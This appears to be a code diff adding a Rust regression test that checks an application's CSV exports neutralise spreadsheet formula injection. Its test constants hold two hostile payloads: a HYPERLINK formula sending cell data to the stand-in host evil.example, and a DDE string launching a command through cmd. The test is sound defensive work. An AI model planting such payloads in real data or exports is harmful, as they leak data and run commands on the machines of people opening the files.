@@ -715,3 +715,69 @@ async fn the_second_factor_renews_the_session_cookie_and_csrf_token() {
         );
     }
 }
+
+/// The cells of a CSV document, header included.
+fn csv_cells(document: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(document.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// Attack: text an outsider controls reaches a spreadsheet as a live formula. A failed
+/// sign-in as `=HYPERLINK(…)` lands in the auditor's export; a pledge's source in the
+/// public pledges CSV. Before, both went out as typed and the spreadsheet ran them. Now
+/// every cell that would start a formula leaves with a `'` in front, while a negative gap
+/// stays a number.
+#[tokio::test]
+async fn exported_csv_cells_never_start_a_spreadsheet_formula() {
+    const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")";
+    const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+    for db in resettle_testkit::databases() {
+        let app = demo_app(&db.url).await;
+        let op = Caller::operator();
+        assert!(app.login(LINK, "whatever it is", "attacker").await.is_err());
+        let auditor = caller_of(&app, "auditor").await;
+        let trail = app.audit_csv(&auditor, &Default::default()).await.unwrap();
+        let trail = csv_cells(&trail);
+        assert!(
+            trail.iter().flatten().any(|c| *c == format!("'{LINK}")),
+            "{}: the name is exported, neutralised",
+            db.backend
+        );
+        app.set_pledge(
+            &op,
+            "BE",
+            &resettle_domain::programme::Pledge {
+                year: 2001,
+                pledged: 5,
+                arrived_before_resettle: Some(17),
+                source: DDE.into(),
+            },
+        )
+        .await
+        .unwrap();
+        let pledges = csv_cells(&app.pledges_csv("BE").await.unwrap());
+        let row = pledges
+            .iter()
+            .find(|r| r[0] == "2001")
+            .expect("the 2001 pledge");
+        assert_eq!(
+            row[3], "-12",
+            "{}: a negative gap stays a number",
+            db.backend
+        );
+        assert_eq!(row[4], format!("'{DDE}"), "{}", db.backend);
+        for cell in trail.iter().chain(&pledges).flatten() {
+            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                || (cell.starts_with('-') && cell.parse::<i64>().is_err());
+            assert!(
+                !formula,
+                "{}: {cell:?} would run in a spreadsheet",
+                db.backend
+            );
+        }
+    }
+}
